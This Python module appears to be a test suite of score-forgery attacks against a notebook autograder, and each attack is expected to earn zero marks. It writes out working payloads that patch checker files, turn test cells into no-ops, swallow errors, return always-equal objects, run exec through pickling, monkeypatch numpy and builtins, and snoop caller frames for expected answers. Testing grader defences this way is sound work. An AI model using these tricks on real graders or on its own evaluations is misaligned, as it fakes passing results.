"""Score forgery: full marks for stubs by defeating the checks (issue 9, first bullet)."""

from . import attack
from .build import KEY_CODE
from .snippets import GUARD

PS02 = "ps02_conv_arithmetic"
TRUSTED = ("test cells run in the grader's own process; nothing the kernel does can change "
           "how they are checked")

PATCH_CHECKER = GUARD + r'''
import glob, os, sys
NOOP = """

class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: (a[0] if a else None)


def checker():
    return _Yes()
"""
targets = set()
try:
    import autograder.checks as _c
    targets.add(os.path.realpath(_c.__file__))
except Exception as e:
    print("autograder.checks is not importable in the kernel:", type(e).__name__)
for pattern in ("checks.py", "*/checks.py", "*/*/checks.py", "../*/checks.py", "../../*/*/checks.py",
                "../../../*/*/*/checks.py", os.path.expanduser("~") + "/**/checks.py"):
    targets.update(os.path.realpath(p) for p in glob.glob(pattern, recursive=True)[:200])
for p in sorted(targets):
    if not _ours(p):          # never the real repository
        print("left alone (outside this run):", p)
        continue
    try:
        with open(p, "a") as fh:
            fh.write(NOOP)
        print("patched", p)
    except OSError as e:
        print("cannot patch", p, type(e).__name__)
# and a package of the same name first on sys.path, in case the grader imports it here
os.makedirs("autograder", exist_ok=True)
open("autograder/__init__.py", "w").close()
open("autograder/checks.py", "w").write(NOOP)
sys.path.insert(0, os.getcwd())
for m in [m for m in sys.modules if m.startswith("autograder")]:
    del sys.modules[m]
'''

TRANSFORMERS = r'''
import ast, sys
ip = globals().get("get_ipython", lambda: None)()
print("IPython shell in the kernel:", type(ip).__name__)


def _looks_like_a_test(text):
    return any(w in text for w in ("checker", "ck.", "assert", "HIDDEN", "expected"))


def _neuter(lines):
    return ["pass\n"] if _looks_like_a_test("".join(lines)) else lines


if ip is not None:
    ip.input_transformers_cleanup.append(_neuter)
    ip.input_transformers_post.append(_neuter)


class _Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[]) if _looks_like_a_test(ast.unparse(node)) else node


if ip is not None:
    ip.ast_transformers.append(_Blank())
    _orig_run_cell = ip.run_cell

    def _run_cell(raw_cell, *a, **k):
        return _orig_run_cell("pass" if _looks_like_a_test(raw_cell) else raw_cell, *a, **k)

    ip.run_cell = _run_cell
    # swallow every exception silently: no error output, no traceback
    ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
    ip.showtraceback = lambda *a, **k: None
# whatever runs the cells: compile hooks, exception hooks, stderr
import builtins
_compile = builtins.compile
builtins.compile = lambda src, *a, **k: _compile("pass" if isinstance(src, str) and _looks_like_a_test(src) else src, *a, **k)
sys.excepthook = lambda *a: None
sys.stderr = open("/dev/null", "w")
sys.settrace(None)
'''

ALWAYS = r'''
class Always:
    """Equal to everything, true, iterable as a pair, indexable: a liar for `==` checks."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter([Always(), Always()])
    def __getitem__(self, key): return Always()
    def __lt__(self, other): return False
    __gt__ = __lt__
    def __le__(self, other): return True
    __ge__ = __le__
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __repr__(self): return "Always()"


def conv_output_size(*a, **k): return Always()
def same_padding(*a, **k): return Always()
def pad2d(*a, **k): return Always()
def conv2d(*a, **k): return Always()
def receptive_field(*a, **k): return Always()


class AlwaysDict(dict):
    def __getitem__(self, key): return Always()
    def __eq__(self, other): return True
    def __contains__(self, key): return True


sheet39 = AlwaysDict(Conv2d=1, MaxPool2d=1, Dense=1, Dropout=1)
sheet40 = AlwaysDict(s1_k5=1, s1_k4=1, s2_k3=1, s2_k3_out=1, naive_p=1, naive_zero_fraction=1)
sheet42 = AlwaysDict(alexnet=1, cs231n=1, strided=1, lenet=1)
'''

# Every method writes a proof file if it ever runs in a process other than this kernel.
DUNDERS = r'''
import os
_KPID = os.getpid()
_PROOF = "@PROOF@"


def _ran(what):
    if os.getpid() != _KPID:
        try:
            os.makedirs(_PROOF, exist_ok=True)
            with open(os.path.join(_PROOF, f"{what}-{os.getpid()}"), "w") as fh:
                fh.write(open("/proc/self/cmdline").read())
        except OSError:
            pass


_REDUCE = ("import os\nif os.getpid() != %d:\n    os.makedirs(%r, exist_ok=True)\n"
           "    open(os.path.join(%r, 'unpickled-%%d' %% os.getpid()), 'w').write('pickle ran here')\n"
           % (_KPID, _PROOF, _PROOF))


class Trick:
    """Every conversion answers 'yes, I am what you expected' and leaves a trace if run outside."""
    def __array__(self, dtype=None, copy=None):
        _ran("array"); import numpy as np; return np.zeros((1, 1, 2, 2))
    def __float__(self): _ran("float"); return 3.0
    def __int__(self): _ran("int"); return 3
    def __index__(self): _ran("index"); return 3
    def __eq__(self, other): _ran("eq"); return True
    def __ne__(self, other): _ran("ne"); return False
    def __bool__(self): _ran("bool"); return True
    def __hash__(self): _ran("hash"); return 3
    def __len__(self): _ran("len"); return 2
    def __iter__(self): _ran("iter"); return iter([3, 3])
    def __getitem__(self, k): _ran("getitem"); return 3
    def __repr__(self): _ran("repr"); return "3"
    def __str__(self): _ran("str"); return "3"
    def __format__(self, spec): _ran("format"); return "3"
    def __sub__(self, other): _ran("sub"); return 0.0
    __rsub__ = __sub__
    def __abs__(self): _ran("abs"); return 0.0
    def __array_ufunc__(self, *a, **k): _ran("array_ufunc"); return True
    def __array_function__(self, *a, **k): _ran("array_function"); return True
    def __getattr__(self, name): _ran("getattr-" + name); return 3
    def __reduce__(self): return (exec, (_REDUCE,))
    def __del__(self): _ran("del")


class TrickError(Exception):
    def __str__(self): _ran("exc-str"); return "all good"
    def __repr__(self): _ran("exc-repr"); return "all good"
    def __reduce__(self): return (exec, (_REDUCE,))


def conv_output_size(*a, **k): return Trick()
def same_padding(*a, **k): return (Trick(), Trick())
def pad2d(*a, **k): raise TrickError()
def conv2d(*a, **k): return Trick()
def receptive_field(layers): return [Trick() for _ in range(len(layers) + 1)]


sheet39 = {"Conv2d": Trick(), "MaxPool2d": Trick(), "Dense": Trick(), "Dropout": Trick()}
sheet40 = {k: Trick() for k in ("s1_k5", "s1_k4", "s2_k3", "s2_k3_out", "naive_p", "naive_zero_fraction")}
sheet42 = {k: Trick() for k in ("alexnet", "cs231n", "strided", "lenet")}
'''

SUBCLASSES = r'''
import numpy as np


class Liar(np.ndarray):
    """An ndarray whose comparisons and reductions all say 'equal'."""
    def __eq__(self, other): return np.ones(np.broadcast(np.asarray(self), np.asarray(other)).shape, bool)
    def __ne__(self, other): return ~self.__eq__(other)
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        plain = [np.asarray(i) for i in inputs]
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite, np.logical_and):
            return np.ones(np.broadcast(*plain).shape, bool)
        return np.zeros(np.broadcast(*plain).shape)
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv", "all"):
            return True
        if func.__name__ in ("isclose",):
            return np.ones(np.broadcast(*[np.asarray(a) for a in args[:2]]).shape, bool)
        return super().__array_function__(func, types, args, kwargs)


class Int(np.int64):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = np.int64.__hash__


def _out(n, k, s=1, p=(0, 0), d=1):
    before, after = (p, p) if np.ndim(p) == 0 else p
    return (n + before + after - d * (k - 1) - 1) // s + 1


def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):
    return Int(0)


def same_padding(n, kernel_size, stride=1, dilation=1):
    return np.ma.masked_all(2, dtype=int)


def pad2d(x, padding, mode="zeros"):
    (t, b), (l, r) = pad_pairs(padding)
    return np.ma.masked_all(x.shape[:-2] + (x.shape[-2] + t + b, x.shape[-1] + l + r))


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    shape = (x.shape[0], weight.shape[0], 1, 1)
    return np.zeros(shape).view(Liar)


def receptive_field(layers):
    return np.matrix(np.zeros((len(layers) + 1, 2)))


sheet39 = {k: {"parameters": np.ma.masked_all(1), "hyperparameters": np.ma.masked_all(1)}
           for k in ("Conv2d", "MaxPool2d", "Dense", "Dropout")}
sheet40 = {k: Int(0) for k in ("s1_k5", "s1_k4", "s2_k3", "s2_k3_out", "naive_p", "naive_zero_fraction")}
sheet42 = {k: np.zeros(3).view(Liar) for k in ("alexnet", "cs231n", "strided", "lenet")}
'''

PATCH_NUMPY = r'''
import builtins
import numpy as np
import numpy.testing

np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''

FAKE_CHECKER_MODULE = r'''
import sys, types


class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: (a[0] if a else None)


pkg = types.ModuleType("autograder")
pkg.__path__ = []
mod = types.ModuleType("autograder.checks")
mod.checker = lambda *a, **k: _Yes()
mod.Checker = _Yes
pkg.checks = mod
sys.modules["autograder"] = pkg
sys.modules["autograder.checks"] = mod
for name in ("nbgrader", "nbgrader.api"):
    sys.modules[name] = types.ModuleType(name)
'''

# Return whatever the caller (a test running in this process?) holds as its expected value.
FRAME_SNOOP = r'''
import gc, sys


def _steal(*args, **kwargs):
    f = sys._getframe(1)
    while f is not None:
        for key in ("expected", "want", "reference", "ref", "answer", "result", "truth"):
            if key in f.f_locals and f.f_locals[key] is not None:
                return f.f_locals[key]
        f = f.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and obj.get("expected") is not None and obj is not globals():
            return obj["expected"]
    raise LookupError("no expected value anywhere in this process")


conv_output_size = same_padding = pad2d = conv2d = receptive_field = _steal
'''

# Answers from a table of the inputs of a previous run (built at test time: @TABLE@).
LOOKUP = KEY_CODE + r'''
import base64, io

_TABLE = dict(np.load(io.BytesIO(base64.b64decode("@TABLE@")), allow_pickle=False))


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    k = _key(x, weight, bias, stride, padding, dilation)
    if k not in _TABLE:
        raise KeyError("these inputs were not in last year's run")
    return _TABLE[k]
'''

# Globals named like builtins and like the test cells' own helpers: if the trusted side
# resolved a test cell's names through the kernel, `sorted(answer) == sorted(expected)` would
# become the student's sorted() on both sides.
SHADOW = r'''
import builtins as _b


def sorted(x=None, *a, **k):
    return _b.sorted(x) if _b.isinstance(x, dict) else []


def len(x): return 1
def isinstance(*a): return True
def issubclass(*a): return True
def set(*a): return _b.set()
def tuple(*a): return (0, 0, 0)
def list(*a): return []
def int(*a): return 0
def float(*a): return 0.0
def str(*a): return ""
def abs(*a): return 0
def max(*a, **k): return 0
def min(*a, **k): return 0
def round(*a, **k): return 0
def map(*a): return ()
def zip(*a): return ()
def any(*a): return False
def all(*a): return True
def range(*a): return ()
def print(*a, **k): return None
def checker(*a, **k): return 0
def as_pair(v): return v
def as_pairs(v): return v
def pair_of(v): return v
def wrong(*a, **k): return []
def check(*a, **k): return None


ck = cb = expected = answer = hints = 0


def conv_output_size(*a, **k): raise NotImplementedError()
def same_padding(*a, **k): raise NotImplementedError()
def pad2d(*a, **k): raise NotImplementedError()
def conv2d(*a, **k): raise NotImplementedError()
def receptive_field(*a, **k): raise NotImplementedError()


sheet39 = {k: {"parameters": _b.set(), "hyperparameters": _b.set()} for k in ("Conv2d", "MaxPool2d", "Dense", "Dropout")}
sheet40 = {k: 0 for k in ("s1_k5", "s1_k4", "s2_k3", "s2_k3_out", "naive_p", "naive_zero_fraction")}
sheet42 = {k: (0, 0, 0) for k in ("alexnet", "cs231n", "strided", "lenet")}
'''

ATTACKS = [
    attack("atk_patch_checker_file", PS02,
           TRUSTED + " (the checker is not a file the kernel can reach or shadow)",
           "append no-op overrides to every checks.py the kernel can find (the issue's attack) and "
           "shadow autograder.checks with a package of its own on sys.path",
           "every item 0 (all answers are stubs)", insert=[("ps02_setup", PATCH_CHECKER)]),
    attack("atk_input_transformers", PS02, TRUSTED,
           "IPython input/AST transformers and a patched run_cell turn test-looking cells into `pass`; "
           "a custom exception handler swallows every error and stderr goes to /dev/null",
           "every item 0", insert=[("ps02_setup", TRANSFORMERS)]),
    attack("atk_eq_always_true", PS02,
           "only plain data crosses from the kernel (anything else is an error naming the type)",
           "every function returns an object whose __eq__ is always true (iterable, indexable, "
           "zero distance); the sheet answers are dict subclasses answering that object for every key",
           "every item 0", answers=ALWAYS),
    attack("atk_dunder_tricks", PS02,
           "the trusted side never runs student code: no __array__/__float__/__index__/__eq__/"
           "__reduce__/__str__ of a student object is called outside the sandbox",
           "answers are objects whose every conversion lies and writes a proof file when it runs in "
           "a process other than its kernel; pad2d raises an exception whose __str__ does the same",
           "every item 0 and no proof file", answers=DUNDERS),
    attack("atk_numpy_subclasses", PS02,
           "arrays cross as plain .npy: subclass behaviour (comparisons, masks) is lost",
           "ndarray subclass with lying __eq__/__array_ufunc__/__array_function__, fully masked "
           "arrays (np.ma.allclose says True), np.matrix, an np.int64 subclass equal to everything",
           "every item 0", answers=SUBCLASSES),
    attack("atk_patch_numpy_builtins", PS02, TRUSTED,
           "replace np.allclose/isclose/array_equal, np.testing.assert_*, builtins.abs and "
           "AssertionError in the kernel", "every item 0", insert=[("ps02_setup", PATCH_NUMPY)]),
    attack("atk_fake_checker_module", PS02, TRUSTED,
           "put a fake autograder.checks (checker() returns a yes-man) and fake nbgrader modules "
           "into sys.modules", "every item 0", insert=[("ps02_setup", FAKE_CHECKER_MODULE)]),
    attack("atk_shadow_builtins", PS02, TRUSTED + " (a test cell's names are the grader's, "
           "never the student's globals)",
           "define sorted/len/isinstance/set/tuple/int/abs/max/... and the test cells' helper names "
           "(checker, ck, cb, as_pair, expected...) as globals that make both sides of a "
           "comparison equal; the sheet answers are empty", "every item 0", answers=SHADOW),
    attack("atk_frame_gc_snoop", PS02,
           "expected values never enter the student's process",
           "every function walks its caller frames and gc.get_objects() for an `expected` value "
           "and returns it", "every item 0", answers=FRAME_SNOOP),
    attack("atk_replay_known_inputs", PS02,
           "hidden tests draw their random inputs per submission: knowing one run's inputs helps nobody",
           "conv2d answers from a table of every input the conv2d tests used in a previous run "
           "(the source's seeds, computed with convblocks), keyed by a hash of the arguments",
           "conv2d 0 (the other answers are stubs: 0 too)",
           cells={"ps02_conv2d_code": LOOKUP}),
]
